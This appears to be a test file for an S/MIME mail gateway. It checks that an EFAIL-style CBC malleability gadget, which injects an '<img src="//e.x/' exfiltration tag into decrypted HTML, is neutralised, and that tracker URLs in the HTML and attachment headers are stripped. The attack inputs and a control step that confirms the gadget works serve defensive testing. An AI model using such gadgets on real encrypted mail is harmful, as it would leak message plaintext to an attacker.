/**
 * The gateway and unauthenticated (CBC) encryption with unauthenticatedEncryption
 * "deliver-decrypted" (issue 13): the message is opened for the recipient, but a
 * CBC malleability gadget (EFAIL) spliced into it by someone on the path finds no
 * way out: every part is rebuilt, no URL survives in the HTML, other parts become
 * plain attachments, and a warning says what happened. The messages are encrypted
 * by openssl, as Outlook's AES-CBC mail is; the gadget is made without any key.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { writeFileSync } from 'node:fs';
import { parse } from 'parse5';
import { startGateway, type RunningGateway } from '../../src/gateway/start-gateway.ts';
import type { Store } from '../../src/store/store.ts';
import { parseEntity } from '../../src/mime/parse-entity.ts';
import { walkEntities, type MimeEntity } from '../../src/mime/entity.ts';
import { decodeText } from '../../src/mime/decode-text.ts';
import { decryptMessage } from '../../src/smime/decrypt-message.ts';
import { findEnvelopeKeys } from '../../src/store/find-envelope-keys.ts';
import { findMessageEnvelope } from '../../src/smime/find-message-envelope.ts';
import { Workdir } from '../peers/run-peer.ts';
import { opensslEncrypt } from '../peers/openssl.ts';
import { KNOWN_FIRST_BLOCK, cbcGadget, openEnvelope } from '../helpers/cbc-gadget.ts';
import { createWorld, openWorldStore, sendTo, Sink, type GatewayWorld } from './gateway-fixture.ts';

let world: GatewayWorld;
let store: Store;
let sink: Sink;
let gateway: RunningGateway;
let w: Workdir;
let aliceCertPath: string;

before(async () => {
  world = await createWorld();
  store = await openWorldStore(world);
  sink = await new Sink().start();
  w = new Workdir('gw-efail');
  const policyPath = join(world.dir, 'policy.json');
  writeFileSync(policyPath, JSON.stringify({ revocation: 'allow-unknown', unauthenticatedEncryption: 'deliver-decrypted' }));
  gateway = await startGateway({ listen: { host: '127.0.0.1', port: 0 }, nextHop: { host: '127.0.0.1', port: sink.port }, domains: new Set(['corp.test']), authservId: 'mx.corp.test', lmtp: false, policyPath }, store, () => {});
  const alice = (await store.findRecipientCertificates('alice@corp.test'))[0]!;
  aliceCertPath = w.write('alice.pem', `-----BEGIN CERTIFICATE-----\n${Buffer.from(alice.certificate.der).toString('base64').replace(/.{1,64}/g, '$&\n')}-----END CERTIFICATE-----\n`);
});

after(async () => {
  await gateway?.stop();
  await sink?.stop();
  await store?.close();
  w?.cleanup();
  world?.cleanup();
});

const SECRET = 'The wire goes to account 4711-KAKITOME on Friday.';

async function cbcMessage(entity: string): Promise<Buffer> {
  const der = await opensslEncrypt(w, Buffer.from(entity.replace(/\n/g, '\r\n')), { recipients: [{ id: { certPath: aliceCertPath } as never }], cipher: 'aes-256-cbc' });
  return Buffer.from('From: erin@example.com\r\nTo: alice@corp.test\r\nSubject: Payment\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n' + der.toString('base64').replace(/.{1,76}/g, '$&\r\n'));
}

async function deliver(message: Buffer): Promise<{ raw: string; parts: MimeEntity[]; ar: string }> {
  sink.deliveries.length = 0;
  const r = await sendTo(gateway.listening.port, 'erin@example.com', ['alice@corp.test'], message);
  assert.equal(r.code, 250, r.response);
  const got = sink.deliveryTo('alice@corp.test').message;
  const raw = got.toString('latin1');
  const ar = raw.split('\r\n\r\n')[0]!.replace(/\r\n[ \t]/g, ' ').split('\r\n').find((l) => l.startsWith('Authentication-Results: mx.corp.test'))!;
  return { raw, parts: [...walkEntities(parseEntity(got))], ar };
}

/** Every element and attribute a browser's parser builds from `html`. */
function elementsAndAttributes(html: string): string[] {
  const out: string[] = [];
  type N = { tagName?: string; attrs?: { name: string; value: string }[]; childNodes?: N[] };
  const stack: N[] = [parse(html) as unknown as N];
  while (stack.length) {
    const n = stack.pop()!;
    if (n.tagName) out.push(n.tagName, ...(n.attrs ?? []).map((a) => `${n.tagName}[${a.name}=${a.value}]`));
    stack.push(...(n.childNodes ?? []));
  }
  return out;
}

test('a CBC gadget that writes <img src="//e.x/ into the decrypted HTML reaches the reader without any way to fetch', async () => {
  const original = await cbcMessage(`Content-Type: text/html; charset=utf-8\n\n<html><body><p>Dear Alice,</p>\n<p>${SECRET}</p>\n<p>Regards, Erin</p></body></html>\n`);
  const chosen = Buffer.from('<img src="//e.x/', 'latin1');
  const attacked = cbcGadget(openEnvelope(original), KNOWN_FIRST_BLOCK, chosen);
  const { raw, parts, ar } = await deliver(attacked);
  assert.match(ar, /smime=neutral/);
  assert.match(ar, /smime\.verdict-code=UNAUTH_ENC/);
  assert.match(raw, /WARNING: this message was encrypted in a way that cannot show whether it was altered/);
  const html = parts.filter((p) => p.contentType.mediaType === 'text/html');
  assert.equal(html.length, 1);
  const text = decodeText(html[0]!);
  assert.ok(text.includes(SECRET), 'the recipient reads the message');
  assert.ok(text.includes('警告'), 'the warning is on top of the HTML too');
  const tree = elementsAndAttributes(text);
  assert.ok(!tree.includes('img'), `no image survives: ${tree.join(' ')}`);
  for (const item of tree) assert.doesNotMatch(item, /\[(src|href|style|background|srcset|action)=|e\.x/, item);
  assert.ok(!raw.includes('e.x/'), 'the injected URL is nowhere in the delivered message');
  // Control: the gadget is live. The same bytes, decrypted as they are, carry the attacker's tag.
  const keys = (await findEnvelopeKeys(store, findMessageEnvelope(attacked)!)).map(({ key, certificate }) => ({ key, certificate }));
  const opened = await decryptMessage(attacked, { keys, allowUnauthenticated: true });
  assert.ok(opened.message.includes(chosen), 'the gadget put <img src="//e.x/ into the plaintext');
});

test('unsigned CBC mail with HTML references, an image and a forwarded message: HTML neutralised, the others plain attachments', async () => {
  const forwarded = 'From: x@example.com\nSubject: inner\nContent-Type: text/html\n\n<img src="http://tracker.example/inner">\n';
  const entity = [
    'Content-Type: multipart/mixed; boundary="b1"', '',
    '--b1', 'Content-Type: multipart/alternative; boundary="b2"', '',
    '--b2', 'Content-Type: text/plain; charset=iso-8859-1', 'Content-Transfer-Encoding: quoted-printable', '', `Caf=E9: ${SECRET}`,
    '--b2', 'Content-Type: text/html; charset=utf-8', '', `<p style="background:url(http://tracker.example/bg)">${SECRET}</p><img src="http://tracker.example/px.gif"><a href="http://tracker.example/l">link</a>`,
    '--b2--',
    '--b1', 'Content-Type: image/png; name="chart.png"', 'Content-ID: <chart@x>', 'Content-Location: http://tracker.example/chart.png', 'Content-Transfer-Encoding: base64', '', 'iVBORw0KGgo=',
    '--b1', 'Content-Type: message/rfc822', '', forwarded,
    '--b1', 'Content-Type: message/external-body; access-type=URL; URL="http://tracker.example/ext"', '', 'Content-Type: text/plain', '',
    '--b1--', '',
  ].join('\n');
  const { raw, parts, ar } = await deliver(await cbcMessage(entity));
  assert.match(ar, /smime=neutral/);
  const types = parts.map((p) => p.contentType.mediaType);
  assert.deepEqual(types.filter((t) => !t.startsWith('multipart/')), ['text/plain', 'text/plain', 'text/html', 'application/octet-stream', 'application/octet-stream', 'application/octet-stream']);
  const plain = parts.filter((p) => p.contentType.mediaType === 'text/plain').map(decodeText);
  assert.ok(plain.some((t) => t.includes(`Café: ${SECRET}`)), 'text re-encoded as UTF-8');
  const html = decodeText(parts.find((p) => p.contentType.mediaType === 'text/html')!);
  assert.ok(html.includes(SECRET));
  assert.doesNotMatch(html, /tracker\.example/);
  const attachments = parts.filter((p) => p.contentType.mediaType === 'application/octet-stream');
  assert.deepEqual(attachments.map((a) => a.contentType.params.name), ['chart.png', 'part.rfc822', 'part.externalbody']);
  for (const a of attachments) {
    assert.match(a.headers.map((h) => h.value).join('\n'), /attachment/);
    assert.ok(!a.headers.some((h) => /^content-(id|location|base)$/i.test(h.name)), 'no Content-ID or Content-Location copied');
  }
  // What a client shows inline (text and HTML) names no tracker; the forwarded message is a file the reader must choose to open.
  for (const p of parts.filter((x) => x.contentType.type === 'text')) assert.doesNotMatch(decodeText(p), /tracker\.example/);
});

test('a signed-and-encrypted (authenticated) message is not rebuilt: the policy applies to unauthenticated content only', async () => {
  // No trusted signature of the sender: plain CBC text is still rebuilt (as above); here check that GCM content from openssl passes as decrypted.
  const der = await opensslEncrypt(w, Buffer.from(`Content-Type: text/html\r\n\r\n<p>${SECRET}</p><img src="cid:logo@x">\r\n`), { recipients: [{ id: { certPath: aliceCertPath } as never }], cipher: 'aes-256-gcm' });
  const msg = Buffer.from('From: erin@example.com\r\nTo: alice@corp.test\r\nSubject: GCM\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n' + der.toString('base64').replace(/.{1,76}/g, '$&\r\n'));
  const { raw, ar } = await deliver(msg);
  assert.match(ar, /smime=none/);
  assert.doesNotMatch(raw, /WARNING: this message was encrypted/);
  assert.match(raw, /<img src="cid:logo@x">/, 'AEAD content is delivered as decrypted');
});
